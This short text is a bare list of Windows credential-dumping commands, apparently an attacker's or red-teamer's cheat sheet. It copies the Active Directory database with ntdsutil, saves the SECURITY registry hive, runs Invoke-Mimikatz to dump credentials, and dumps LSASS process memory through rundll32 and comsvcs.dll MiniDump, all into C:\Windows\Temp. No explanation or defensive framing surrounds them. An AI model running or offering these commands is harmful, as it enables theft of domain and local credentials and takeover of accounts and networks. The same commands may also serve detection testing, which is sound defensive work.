ntdsutil.exe "ac i ntds" "ifm" "create full C:\Windows\Temp\ntds" q q
reg.exe save hklm\security C:\Windows\Temp\sec.hiv /y
Invoke-Mimikatz -DumpCreds
$proc = Get-Process lsass
$dump = "C:\Windows\Temp\$($proc.Id).dmp"
& "$env:windir\System32\rundll32.exe" "$env:windir\System32\comsvcs.dll", MiniDump $proc.Id $dump full
